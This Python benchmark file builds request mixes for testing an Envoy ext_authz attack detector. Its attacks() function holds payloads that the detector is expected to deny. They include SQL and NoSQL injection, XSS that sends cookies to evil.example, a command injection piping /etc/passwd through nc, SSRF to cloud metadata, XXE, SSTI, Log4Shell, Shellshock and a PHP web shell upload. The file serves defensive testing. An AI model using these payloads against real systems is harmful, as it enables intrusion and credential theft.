"""Request mixes the benchmarks send: one definition for wrk (over HTTP) and the engine (in-process).

A mix is a list of HTTP requests sent round-robin, each with the status it
should get from Envoy + extauthz (200 allowed, 403 denied). The benign mixes
are what a shop's users send (a browser GET, a 45-field JSON order, a
multipart photo upload); the attack mix has one request per attack family
the detectors know, in the places real attacks put them (query, form, JSON,
XML, headers, multipart), so that full detection runs its slow paths.

`engine_request` turns a mix entry into the `Request` the adapter would build
from Envoy's CheckRequest (same headers Envoy adds), for in-process benches.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from urllib.parse import quote

from extauthz.request import Hop, Peer, Request, split_uri

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.9,de;q=0.7",
    "Accept-Encoding": "gzip, deflate, br",
    "Referer": "https://shop.example.com/catalog/shoes?sort=price",
    "Cookie": "sessionid=8f14e45fceea167a5a36dedd4bea2543; theme=dark; consent=1",
}


@dataclass(frozen=True)
class HttpRequest:
    method: str
    uri: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    expect: int = 200  # status through Envoy + extauthz (full detection)
    label: str = ""


def _h(**extra: str) -> dict[str, str]:
    return {**BROWSER, **{k.replace("_", "-"): v for k, v in extra.items()}}


def browser_get() -> list[HttpRequest]:
    return [HttpRequest("GET", "/catalog/search?q=running+shoes&size=42&color=blue&sort=price_asc&page=2",
                        _h(), label="browser GET")]


def json_order_body() -> bytes:
    """The 45-field order of bench/engine_cost.py: 15 names, 15 quantities, 15 notes."""
    fields: dict[str, object] = {}
    for i in range(15):
        fields[f"name_{i}"] = f"Customer Name {i}"
        fields[f"qty_{i}"] = i * 3
        fields[f"note_{i}"] = "Please leave the parcel at the back door, thanks!" if i % 2 else "n/a"
    return json.dumps({"order": fields}).encode()


def json_post() -> list[HttpRequest]:
    return [HttpRequest("POST", "/api/orders", _h(Content_Type="application/json"), json_order_body(),
                        label="45-field JSON POST")]


BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def multipart_body(parts: list[tuple[str, str | None, str | None, bytes]]) -> bytes:
    out = []
    for name, filename, ctype, data in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        head = f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n" + (f"Content-Type: {ctype}\r\n" if ctype else "")
        out.append(head.encode() + b"\r\n" + data + b"\r\n")
    return b"".join(out) + f"--{BOUNDARY}--\r\n".encode()


def photo_bytes(n: int = 16384) -> bytes:
    """A PNG signature and IHDR, then deterministic pseudo-random bytes (compressed image data)."""
    rnd = random.Random(7)
    head = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000280000001e00806000000")
    return head + bytes(rnd.getrandbits(8) for _ in range(n - len(head)))


def multipart_upload() -> list[HttpRequest]:
    body = multipart_body([
        ("title", None, None, b"Our holiday at the lake"),
        ("description", None, None, b"Taken on the second day, just before the storm. Feel free to share!"),
        ("album", None, None, b"summer-2024"),
        ("photo", "IMG_2024-07-14_lake.png", "image/png", photo_bytes()),
    ])
    return [HttpRequest("POST", "/account/photos", _h(Content_Type=f"multipart/form-data; boundary={BOUNDARY}"),
                        body, label="multipart upload 16 KiB")]


def _q(text: str) -> str:
    return quote(text, safe="")


def attacks() -> list[HttpRequest]:
    """One request per attack family, each denied by full detection (expect 403)."""
    form = _h(Content_Type="application/x-www-form-urlencoded")
    js = _h(Content_Type="application/json")
    xml = _h(Content_Type="application/xml")
    return [
        HttpRequest("GET", "/catalog/search?q=" + _q("shoes' UNION SELECT username, password FROM users--"), _h(),
                    expect=403, label="sqli query"),
        HttpRequest("POST", "/api/login", js, json.dumps({"user": "admin' OR '1'='1' -- ", "password": "x"}).encode(),
                    expect=403, label="sqli json"),
        HttpRequest("GET", "/search?q=" + _q('"><script>fetch("//evil.example/c?"+document.cookie)</script>'), _h(),
                    expect=403, label="xss query"),
        HttpRequest("POST", "/reviews", form, b"rating=5&text=" + _q('<img src=x onerror="alert(document.domain)">').encode(),
                    expect=403, label="xss form"),
        HttpRequest("GET", "/tools/ping?host=" + _q("127.0.0.1; cat /etc/passwd | nc evil.example 4444"), _h(),
                    expect=403, label="rce query"),
        HttpRequest("GET", "/download?file=" + _q("../../../../../etc/passwd"), _h(), expect=403, label="lfi query"),
        HttpRequest("GET", "/fetch?url=" + _q("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                    _h(), expect=403, label="ssrf query"),
        HttpRequest("GET", "/page?template=" + _q("http://evil.example/shell.txt?"), _h(), expect=403,
                    label="rfi query"),
        HttpRequest("POST", "/api/import", xml, b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
                    b'"file:///etc/passwd">]><order><note>&x;</note></order>', expect=403, label="xxe xml"),
        HttpRequest("GET", "/greet?name=" + _q("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
                    _h(), expect=403, label="ssti query"),
        HttpRequest("POST", "/api/login", js, b'{"user": {"$ne": null}, "password": {"$ne": null}}', expect=403,
                    label="nosqli json"),
        HttpRequest("GET", "/", _h(X_Api_Version="${jndi:ldap://evil.example:1389/Exploit}"), expect=403,
                    label="log4shell header"),
        HttpRequest("GET", "/cgi-bin/status", {**BROWSER, "User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
                    expect=403, label="shellshock header"),
        HttpRequest("GET", "/directory?user=" + _q("*)(uid=*))(|(uid=*"), _h(), expect=403, label="ldapi query"),
        HttpRequest("POST", "/account/avatar", _h(Content_Type=f"multipart/form-data; boundary={BOUNDARY}"),
                    multipart_body([("avatar", "shell.php", "image/png",
                                     b"<?php system($_GET['cmd']); ?>")]), expect=403, label="php upload"),
        HttpRequest("GET", "/search?q=" + _q("1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"), _h(), expect=403,
                    label="sqli blind"),
    ]


MIXES = {
    "get": browser_get,
    "json": json_post,
    "multipart": multipart_upload,
    "attack": attacks,
}


def mix(name: str) -> list[HttpRequest]:
    return MIXES[name]()


def engine_request(r: HttpRequest, client_ip: str = "203.0.113.7", service: str = "shop") -> Request:
    """The Request the adapter builds for `r` arriving at the bench's edge Envoy."""
    path, query = split_uri(r.uri)
    headers = {k.lower(): (v,) for k, v in r.headers.items()}
    headers.update({"host": ("shop.example.com",), "x-forwarded-for": (client_ip,), "x-forwarded-proto": ("http",),
                    "x-request-id": ("3f2b8c1e-9a7d-4e21-8f00-1c2d3e4f5a6b",)})
    if r.body:
        headers["content-length"] = (str(len(r.body)),)
    return Request(method=r.method, path=path, query=query, headers=headers, body=r.body, body_size=len(r.body),
                   authority="shop.example.com", hop=Hop.EDGE, service=service, source=Peer(client_ip, 51234))


def check_request(r: HttpRequest, client_ip: str = "203.0.113.7", service: str = "shop") -> bytes:
    """The serialized CheckRequest the bench's edge Envoy sends for `r` (encode_raw_headers, pack_as_bytes)."""
    from extauthz._wire import ext_authz_pb2 as pb

    msg = pb.CheckRequest()
    a = msg.attributes
    a.source.address.socket_address.address = "127.0.0.1"
    a.source.address.socket_address.port_value = 51234
    a.destination.address.socket_address.address = "127.0.0.1"
    a.destination.address.socket_address.port_value = 8080
    a.context_extensions["hop"] = "edge"
    a.context_extensions["service"] = service
    h = a.request.http
    h.id = "13390921641837432612"
    h.method = r.method
    h.path = r.uri.encode()
    h.host = "shop.example.com"
    h.scheme = "http"
    h.protocol = "HTTP/1.1"
    h.size = len(r.body) if r.body else 0
    if r.body:
        h.raw_body = r.body
    pairs = [(":authority", "shop.example.com"), (":path", r.uri), (":method", r.method), (":scheme", "http")]
    pairs += [(k.lower(), v) for k, v in r.headers.items()]
    if r.body:
        pairs.append(("content-length", str(len(r.body))))
    pairs += [("x-forwarded-for", f"{client_ip}, 127.0.0.1"), ("x-forwarded-proto", "http"),
              ("x-request-id", "3f2b8c1e-9a7d-4e21-8f00-1c2d3e4f5a6b")]
    for k, v in pairs:
        h.header_map.headers.add(key=k, raw_value=v.encode())
    return msg.SerializeToString()
